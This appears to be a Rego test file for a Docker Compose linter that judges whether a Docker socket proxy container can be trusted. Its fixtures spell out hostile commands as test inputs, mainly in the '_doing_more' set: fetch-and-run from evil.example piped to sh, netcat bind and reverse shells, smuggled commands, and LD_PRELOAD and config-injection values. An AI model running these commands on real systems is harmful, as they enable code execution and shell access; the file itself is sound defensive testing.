package composelint.proxy_trust_test

import data.composelint.fixture
import data.composelint.proxy_trust
import data.composelint.socket_proxies

# --- the image

test_publishers_and_mirrors if {
	proxy_trust.trusted == object.keys(_published) with input as _sold(_published, [])
	proxy_trust.trusted == set() with input as _sold(_elsewhere, [])
	object.keys(proxy_trust.doubts) == object.keys(_elsewhere) with input as _sold(_elsewhere, [])
	proxy_trust.trusted == {"registry", "mirror", "fork"} with input as _sold(_elsewhere, ["registry.example.com", "ghcr.io/acme", "quay.io", "docker.io"])
}

_published := {
	"hub": fixture.image("hub", "tecnativa/docker-socket-proxy", "v0.4.1"),
	"any-tag": fixture.image("any-tag", "tecnativa/docker-socket-proxy", "edge"),
	"pinned": object.union(fixture.image("pinned", "tecnativa/docker-socket-proxy", ""), {"digest": "sha256:aa"}),
	"github": _at("github", "ghcr.io", "tecnativa/docker-socket-proxy"),
	"own": _at("own", "lscr.io", "linuxserver/socket-proxy"),
	"quay": _at("quay", "quay.io", "linuxserver.io/socket-proxy"),
	"google": _at("google", "mirror.gcr.io", "wollomatic/socket-proxy"),
	"unknown": object.remove(_at("unknown", "", "tecnativa/docker-socket-proxy"), ["registry"]),
}

_elsewhere := {
	"registry": _at("registry", "registry.example.com", "tecnativa/docker-socket-proxy"),
	"mirror": _at("mirror", "registry.example.com", "hub/tecnativa/docker-socket-proxy"),
	"fork": _at("fork", "ghcr.io", "acme/tecnativa/docker-socket-proxy"),
	"deeper": fixture.image("deeper", "evil/tecnativa/docker-socket-proxy", "v0.4.1"),
	"quay": _at("quay", "quay.io", "tecnativa/docker-socket-proxy"),
	"google": _at("google", "mirror.gcr.io", "evil/tecnativa/docker-socket-proxy"),
	"port": _at("port", "ghcr.io:8443", "tecnativa/docker-socket-proxy"),
}

_at(name, registry, repository) := object.union(fixture.image(name, repository, "v0.4.1"), {"registry": registry})

_sold(images, registries) := object.union(
	fixture.project([fixture.service(name, {"image": image}) | some name, image in images]),
	{"config": {"registries": registries}},
)

test_where_it_comes_from if {
	proxy_trust.doubts == {"proxy": {{
		"at": "services.proxy.image",
		"key": "",
		"since": `nobody said that "evil.example/tecnativa/docker-socket-proxy" is where its publisher puts the image`,
		"remedy": `take the image from its publisher, or call it a proxy under "roles" of the configuration`,
	}}} with input as _sold({"proxy": _at("proxy", "evil.example", "tecnativa/docker-socket-proxy")}, [])
	{doubt.remedy | some doubt in proxy_trust.doubts.proxy} == {`take the image from its publisher, or name the mirror in "registries" of the configuration`} with input as _sold({"proxy": _at("proxy", "evil.example", "tecnativa/docker-socket-proxy")}, ["docker.io"])
}

# Who writes the rules of a proxy of his own knows where it comes from.
test_own_kind if {
	proxy_trust.trusted == {"proxy"} with input as _sold({"proxy": _at("proxy", "registry.example.com", "example/own")}, [])
		with data.composelint.proxies.own as {"name": "own", "images": ["example/own"], "variables": {}}
		with data.composelint.prepared.kinds["example/own"] as "own"
}

test_built if {
	_since == {"its image is built in the project"} with input as _proxy({"built": true})
	_since == {"its image is built in the project", `service "other" builds an image of the same name`} with input as _beside_build({}, {"image": _image})
	_since == {`service "other" builds an image of the same name`} with input as _beside_build({}, {"build": fixture.build("other", {"tags": [_image]})})
	_since == set() with input as _beside_build({"image": object.union(_image, {"digest": "sha256:aa"})}, {"build": fixture.build("other", {"tags": [_image]})})
	_since == set() with input as _beside_build({"image": object.union(_image, {"tag": "edge"})}, {"build": fixture.build("other", {"tags": [_image]})})
	_since == set() with input as _beside_build({}, {"build": fixture.build("other", {"tags": [fixture.image("other", "acme/app", "v0.4.1")]})})
}

_image := fixture.image("proxy", "tecnativa/docker-socket-proxy", "v0.4.1")

_beside_build(proxy, other) := fixture.project([
	fixture.proxy("proxy", proxy),
	fixture.service("other", object.union({"built": true}, other)),
])

# The configuration vouches for the image, and for nothing that the file puts over it.
test_named if {
	_since == set() with input as _named({"built": true, "image": fixture.image("proxy", "acme/proxy", "1")})
	_since == set() with input as _named({"image": _at("proxy", "registry.example.com", "tecnativa/docker-socket-proxy")})
	_since == {`"/bin/sh" is mounted over what runs in it`} with input as _named({"mounts": _mount("/bin/sh")})
}

_named(fields) := object.union(_proxy(fields), {"config": {"roles": {"proxies": [{"service": "proxy", "kind": "tecnativa"}], "clients": [], "edge": [], "networks": []}}})

# --- what runs in the container

# The services have the names of what is mounted.
test_mounted_over if {
	proxy_trust.trusted == _beside with input as fixture.project([fixture.proxy(target, {"mounts": _mount(target)}) | some target in (_over | _beside)])
	_since == set() with input as _proxy({"mounts": [object.union(mount, {"type": "tmpfs"}) | some mount in _mount("/bin")]})
}

_over := {
	"/usr/local/sbin/haproxy", "/usr/local/sbin", "/usr/local", "/usr", "/usr/local/etc",
	"/docker-entrypoint.sh", "/bin/sh", "/bin", "/lib/ld-musl-x86_64.so.1", "/etc", "/etc/ld.so.preload",
}

_beside := {
	"/run/docker.sock", "/run", "/usr/local/etc/haproxy/haproxy.cfg", "/usr/local/etc/haproxy", "/etc/localtime",
	"/etc/ssl/certs", "/binary", "/usr/share/zoneinfo", "/tmp",
}

_mount(target) := [fixture.mount("proxy", "/srv/x", {"target": target})]

test_volumes_of_others if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy.volumes_from[data]",
		"key": "",
		"since": `by volumes_from it has what the image of "data" declares as volumes, perhaps over what runs in it`,
		"remedy": `mount what it needs by "volumes"`,
	}} with input as _proxy({"volumes_from": [{"at": "services.proxy.volumes_from[data]", "of": "data", "service": ""}]})
}

test_watched if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy.watch[src]",
		"key": "",
		"since": `while it is watched, files are copied to "/usr/local", over what runs in it`,
		"remedy": "watch nothing for it",
	}} with input as _watching({"target": "/usr/local"})
	count(_since) == 1 with input as _watching({"target": "/"})
	count(_since) == 1 with input as _watching({"target": "/usr/local/etc/haproxy", "action": "sync+restart"})
	_since == {"what sync+exec runs has the socket too"} with input as _watching({"target": "/data", "action": "sync+exec"})
	_since == set() with input as _watching({"target": "/data"})
	_since == set() with input as _watching({"target": "/usr/local", "action": "rebuild"})
}

_watching(fields) := _proxy({"watch": [object.union({"at": "services.proxy.watch[src]", "path": "src", "action": "sync", "ignore": []}, fields)]})

test_loading if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy.environment[LD_PRELOAD]",
		"key": "",
		"since": `by "LD_PRELOAD" it loads or runs what need not be of its image`,
		"remedy": `leave out "LD_PRELOAD"`,
	}} with input as _proxy({"environment": fixture.environment("proxy", {"LD_PRELOAD": "/x.so", "CONTAINERS": "1"})})
	_since == set() with input as _proxy({"environment": fixture.environment("proxy", {"LD_PRELOAD": ""})})
	count(_since) == 1 with input as _proxy({"environment": fixture.environment("proxy", {"BASH_FUNC_exec%%": "() { /x; }"})})
}

test_injected if {
	_since == {`"SOCKET_PATH" can add settings of its own to the configuration`} with input as _proxy({"environment": fixture.environment("proxy", {"SOCKET_PATH": "/x\n  http-request allow"})})
	_since == set() with input as _proxy({"environment": fixture.environment("proxy", {"SOCKET_PATH": "/run/docker.sock", "OTHER": "a\nb"})})
	_since == set() with input as fixture.project([fixture.service("proxy", {
		"image": fixture.image("proxy", "hectorm/cetusguard", "v1"),
		"environment": fixture.environment("proxy", {"CETUSGUARD_RULES": "a\nb"}),
	})])
}

test_runtime if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy",
		"key": "runtime",
		"since": `the runtime "evil" may run anything in its place`,
		"remedy": `leave out "runtime"`,
	}} with input as _proxy({"runtime": "evil"})
	_since == set() with input as _proxy({"runtime": "runsc"})
	_since == set() with input as fixture.project([fixture.without(fixture.proxy("proxy", {}), ["runtime"])])
}

test_provided if {
	_since == {"docker compose runs a program of the host in its place"} with input as _proxy({"provider": {"at": "services.proxy.provider", "type": "x", "options": []}})
}

test_started_otherwise if {
	_since == {"its command is not that of the image"} with input as _proxy({"command": _words(["haproxy", "-f", "/x.cfg"])})
	_since == {"its entrypoint is not that of the image"} with input as _proxy({"entrypoint": _words(["/docker-entrypoint.sh", "sh"])})
	_since == set() with input as _proxy({"entrypoint": _words(["/docker-entrypoint.sh"])})
	_since == set() with input as _proxy({"command": _words(["docker-entrypoint.sh"])})
	_since == set() with input as _proxy({"command": [{"at": "services.proxy.command[0]", "literal": ""}]})
}

test_without_entrypoint if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy",
		"key": "entrypoint",
		"since": "the entrypoint of its image is taken away",
		"remedy": `leave out "entrypoint"`,
	}} with input as _without_entrypoint(["/x", "-allowGET=/_ping"])
	count(_since) == 1 with input as _without_entrypoint([])
	_since == set() with input as _without_entrypoint(["/socket-proxy", "-allowGET=/_ping"])
}

_without_entrypoint(command) := _proxy({"image": fixture.image("proxy", "wollomatic/socket-proxy", "1"), "entrypoint_removed": true, "command": _words(command)})

# The command of these is options.
test_options if {
	proxy_trust.trusted == {"wollomatic/socket-proxy", "buildkite/sockguard", "codeswhat/sockguard"} with input as fixture.project([service |
		some image in ["wollomatic/socket-proxy", "buildkite/sockguard", "codeswhat/sockguard", "tecnativa/docker-socket-proxy"]
		service := fixture.service(image, {"image": fixture.image(image, image, "1"), "command": _words(["-x=1"])})
	])
	_since == set() with input as _wollomatic(["/socket-proxy", "-x"])
	_since == {"its entrypoint is not that of the image"} with input as _wollomatic(["/x", "-x"])
}

_wollomatic(entrypoint) := _proxy({"image": fixture.image("proxy", "wollomatic/socket-proxy", "1"), "entrypoint": _words(entrypoint)})

# --- commands beside it

# The services have the lines as names.
test_checks if {
	proxy_trust.trusted == _asking with input as fixture.project([fixture.proxy(line, _check(["CMD-SHELL", line])) | some line in (_asking | _doing_more)])
}

_asking := {
	"wget --spider http://localhost:2375/_ping",
	"wget --no-verbose --spider --tries=1 http://localhost:2375/version || exit 1",
	"wget -q -T 3 -O /dev/null http://127.0.0.1:2375/_ping > /dev/null 2>&1",
	"/usr/bin/wget -qO- http://[::1]:2375/_ping | grep -q OK",
	"wget -q --spider http://localhost:/_ping",
	"curl -fsS -o /dev/null http://127.0.0.1:2375/_ping || exit 1",
	"curl -s -o /dev/null -w '%{http_code}' http://localhost:2375 | grep -q '403' || exit 1",
	"curl --fail --unix-socket /var/run/docker.sock http://localhost/_ping",
	`[ "$(curl -s http://localhost:2375/_ping)" = "OK" ]`,
	"nc -z localhost 2375",
	"timeout 2 nc -zv -w 1 127.0.0.1 2375 </dev/null",
	"nc -zU /run/proxy/docker.sock",
	`printf 'GET /_ping HTTP/1.0\r\n\r\n' | nc localhost 2375 | grep OK`,
	"bash -c '</dev/tcp/localhost/2375'",
	"test -S /var/run/docker.sock && pgrep haproxy >/dev/null",
	"haproxy -c -f /usr/local/etc/haproxy/haproxy.cfg",
	"/docker-entrypoint.sh --healthcheck",
	"./docker-entrypoint.sh --healthcheck",
	"if wget -q --spider http://localhost:2375/_ping; then exit 0; else exit 1; fi",
	"wget -qO- http://$HOSTNAME:2375/_ping || kill 1",
	"stat /var/run/docker.sock && killall -0 haproxy",
	"",
}

_doing_more := {
	"wget -qO- http://evil.example/x | sh",
	"wget -qO- http://localhost:2375/x | sh",
	"wget -O /usr/local/sbin/haproxy http://localhost:2375/x",
	"wget --spider http://localhost:2375/_ping; /x",
	"wget --spider http://localhost:2375/_ping & /x",
	"wget --spider http://localhost/x&sh",
	"wget --spider http://localhost:2375/_ping\n/x",
	"wget --spider http://localhost@evil.example/",
	"wget --spider http://localhost.evil.example/",
	"wget --spider http://localhost:2375/ http://evil.example/",
	"wget --use-askpass=/x http://localhost:2375/",
	"curl -X POST http://localhost:2375/containers/create",
	"curl --unix-socket /var/run/docker.sock -d @/x http://localhost/containers/create",
	"curl -K /x http://localhost:2375/",
	"nc -lk -p 2376 -e /bin/sh",
	"nc localhost 2375 -e /bin/sh",
	"nc evil.example 2375",
	"$(curl -s http://localhost:2375/x)",
	"test -S `/x`",
	"echo x > /usr/local/etc/haproxy/haproxy.cfg",
	"sh -c 'nc -z localhost 2375; /x'",
	"haproxy -f /x.cfg",
	"/docker-entrypoint.sh sh",
	"if /x; then exit 0; fi",
	"/x",
}

_check(test) := {"container_name": "the-container", "healthcheck": {"at": "services.proxy.healthcheck", "stated": true, "disabled": false, "test": _words(test)}}

_checked(test) := _proxy(_check(test))

test_other_checks if {
	_since == set() with input as _checked(["CMD-SHELL", "wget --spider http://proxy:2375/_ping; nc -z proxy 2375"])
	_since == set() with input as _checked(["CMD-SHELL", "nc -z the-container 2375"])
	_since == {"its health check does more than ask the proxy whether it answers"} with input as _checked(["CMD", "sh", "-c", "/x"])
	_since == set() with input as _checked(["CMD", "sh", "-c", "nc -z localhost 2375"])
	_since == set() with input as _checked(["CMD", "wget", "--spider", "http://localhost:2375/_ping"])
	_since == set() with input as _proxy({"healthcheck": {"at": "services.proxy.healthcheck", "stated": true, "disabled": true, "test": _words(["CMD", "/x"])}})
	_since == {"its health check does more than ask the proxy whether it answers"} with input as _unset("/x ")
	_since == set() with input as _unset("")
	_since == set() with input as _unset_of(["CMD", "wget", "--spider"])
}

# A relative path leads to the image's program from the image's own directory alone.
test_from_another_directory if {
	_since == set() with input as _starting_in("")
	_since == set() with input as _starting_in("/")
	_since == {"its health check does more than ask the proxy whether it answers"} with input as _starting_in("/x")
	_since == set() with input as fixture.project([fixture.without(_healthy("/x"), ["working_dir"])])
}

_starting_in(directory) := fixture.project([_healthy(directory)])

_healthy(directory) := fixture.service("proxy", object.union(_check(["CMD", "./healthcheck"]), {
	"image": fixture.image("proxy", "wollomatic/socket-proxy", "1"),
	"working_dir": directory,
}))

# The address is a variable that nobody set.
_unset_of(words) := _proxy({"healthcheck": {
	"at": "services.proxy.healthcheck",
	"stated": true,
	"disabled": false,
	"test": array.concat(_words(words), [{"at": "services.proxy.healthcheck.test[9]", "literal": ""}]),
}})

_unset(literal) := _proxy({"healthcheck": {"at": "services.proxy.healthcheck", "stated": true, "disabled": false, "test": [
	{"at": "services.proxy.healthcheck.test[0]", "value": "CMD", "literal": "CMD"},
	{"at": "services.proxy.healthcheck.test[1]", "literal": literal},
]}})

test_hooks if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy.post_start[0]",
		"key": "",
		"since": "what post_start runs has the socket too",
		"remedy": `leave out "post_start"`,
	}} with input as _hooked("post_start", {"command": _words(["/x"])})
	_since == set() with input as _hooked("post_start", {"command": _words(["nc", "-z", "localhost", "2375"])})
	_since == set() with input as _hooked("post_start", {"command": _words(["./docker-entrypoint.sh", "--healthcheck"])})
	_since == {"what post_start runs has the socket too"} with input as _hooked("post_start", {"working_dir": "/x", "command": _words(["./docker-entrypoint.sh", "--healthcheck"])})
	_since == {"what pre_start runs has the socket too"} with input as _hooked("pre_start", {"image": fixture.image("proxy.pre_start[0]", "evil/app", "1")})
	_since == {"what pre_start runs has the socket too"} with input as _hooked("pre_start", {"built": true})
	_since == {"what pre_start runs has the socket too"} with input as _hooked("pre_start", {"entrypoint": _words(["/x"])})
}

test_in_one_pid_namespace if {
	proxy_trust.doubts.proxy == {{
		"at": "services.proxy.pid",
		"key": "",
		"since": `it shares its PID namespace with "other", which so reaches the socket`,
		"remedy": "give each a PID namespace of its own",
	}} with input as _joining("proxy", "other", {})
	{doubt.at | some doubt in proxy_trust.doubts.proxy} == {"services.other.pid"} with input as _joining("other", "proxy", {})
	_since == set() with input as _joining("proxy", "other", {"use_api_socket": true})
	_since == set() with input as _joining("other", "proxy", {"use_api_socket": true})
	_since == set() with input as _proxy({"namespaces": [fixture.namespace("proxy", "pid", {})]})
	_since == set() with input as _proxy({"namespaces": [fixture.namespace("proxy", "network", {"mode": "service", "of": "vpn", "joined": "vpn", "host": false})]})
	count(_since) == 1 with input as _proxy({"namespaces": [fixture.namespace("proxy", "pid", {"mode": "container", "of": "elsewhere", "host": false})]})
}

# One of the proxy and another service joins the PID namespace of the other.
_joining(joiner, owner, other) := fixture.project([
	fixture.proxy("proxy", {"namespaces": [namespace | some namespace in _joined(joiner, owner); joiner == "proxy"]}),
	fixture.service("other", object.union(other, {"namespaces": [namespace | some namespace in _joined(joiner, owner); joiner == "other"]})),
])

_joined(joiner, owner) := [fixture.namespace(joiner, "pid", {"mode": "service", "of": owner, "joined": owner, "host": false})]

_hooked(kind, fields) := fixture.project([fixture.proxy("proxy", {}), fixture.hook("proxy", kind, fields)])

# ---

_since := {doubt.since | some of_proxy in proxy_trust.doubts; some doubt in of_proxy}

_proxy(fields) := fixture.project([fixture.proxy("proxy", fields)])

_words(words) := [{"at": $"{concat(" ", words)}[{i}]", "value": word, "literal": word} | some i, word in words]

# Every kind says where its publisher puts it, and which files make it a proxy.
test_data_is_complete if {
	{kind | some kind, known in data.composelint.proxies; count(known.images) > 0; not known.registries} == set()
	{kind | some kind, known in data.composelint.proxies; not known.files} == set()
	object.keys(socket_proxies.kinds) == {"proxy"} with input as _proxy({})
}
